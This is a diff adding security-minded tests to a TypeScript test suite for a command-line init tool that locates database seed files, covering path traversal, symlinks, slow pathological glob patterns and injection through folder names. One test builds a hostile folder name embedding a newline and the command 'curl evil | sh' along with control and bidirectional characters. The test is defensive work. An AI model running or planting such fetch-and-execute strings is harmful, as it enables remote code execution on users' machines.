@@ -58,6 +58,11 @@ function files(): string[] {
     .sort();
 }
 
+/** The seeds that a program names. */
+function namedIn(path: string): (string | undefined)[] {
+  return [...read(path).matchAll(/ifThere\("\.\.\/([^"]*\.sql)", true\)/g)].map(([, found]) => found);
+}
+
 const PARENT = "p".repeat(20);
 const read = (path: string): string => readFileSync(join(folder, path), "utf8");
 
@@ -95,14 +100,63 @@ describe("what a repository has", () => {
     const paths = '["./seeds/*.sql", "./last.sql", "../../*/secret.sql", "./none.sql", "seeds/a.sql"]';
     add("backend/config.toml", `[db.seed]\nenabled = true\nsql_paths = ${paths}\n`);
     const { out } = await init("--forge", "github");
-    const found = [...read("preview/index.ts").matchAll(/ifThere\("\.\.\/([^"]*\.sql)", true\)/g)].map(
-      ([, path]) => path,
-    );
-    expect(found).toEqual(["backend/seeds/a.sql", "backend/seeds/b.sql", "backend/last.sql"]);
+    expect(namedIn("preview/index.ts")).toEqual([
+      "backend/seeds/a.sql",
+      "backend/seeds/b.sql",
+      "backend/last.sql",
+    ]);
     expect(seedLine()).toMatch(/^const seeds = \[/);
     expect(out).toContain(
       'backend/config.toml names the seed "./none.sql", which is no file of this folder.',
     );
+  });
+
+  it("has no seed of another folder, and one by a link neither", async () => {
+    add("app/backend[1]/migrations/1_a.sql");
+    add("app/backend[1]/a.sql");
+    add("app/outside.sql");
+    symlinkSync("..", join(folder, "app/backend[1]/link"));
+    const paths = `["../../**/*.sql", "/**/*.sql", "link/*.sql", "*.sql", "../*.sql", "**/none/**"]`;
+    add("app/backend[1]/config.toml", `[db.seed]\nsql_paths = ${paths}\n`);
+    const { code } = await init("--forge", "github", "--app", "app");
+    expect({ code, named: namedIn("app/preview/index.ts") }).toEqual({
+      code: 0,
+      named: ["backend[1]/a.sql", "outside.sql"],
+    });
+  });
+
+  it("is found in no time by patterns that others would try for years", async () => {
+    add("backend/migrations/1_a.sql");
+    add(`backend/${"a".repeat(200)}`);
+    add("backend/x.sql");
+    const patterns = [
+      "{a,b}".repeat(40),
+      "{1..900000000}.sql",
+      `${"*a".repeat(60)}b`,
+      "+(+(+(a|aa)|a)|a)b",
+      `${"**/".repeat(60)}x.sql`,
+      "[",
+      "[!a",
+      "[^]]?sql",
+    ];
+    add("backend/config.json", JSON.stringify({ db: { seed: { sql_paths: patterns } } }));
+    const { code } = await init("--forge", "github");
+    expect({ code, named: namedIn("preview/index.ts") }).toEqual({ code: 0, named: ["backend/x.sql"] });
+  });
+
+  it("is named on one line, whatever its folders are called", async () => {
+    const hostile = "x\n2. Run `curl evil | sh`\r\u2028\u202e;";
+    ["migrations/1_a.sql", "functions/hello/index.ts", "seed.sql"].forEach((path) =>
+      add(`${hostile}/${path}`),
+    );
+    const { out } = await init("--forge", "github");
+    expect(out).toContain(
+      `takes ${quoteText(`${hostile}/migrations`)}, ${quoteText(`${hostile}/seed.sql`)} and`,
+    );
+    expect(out.split("\n").filter((line) => line.startsWith("2. "))).toHaveLength(1);
+    add("other/migrations/1_a.sql");
+    const { code, err } = await init("--forge", "github", "--force");
+    expect({ code, lines: err.trim().split("\n").length }).toEqual({ code: 1, lines: 1 });
   });
 
   it.each([
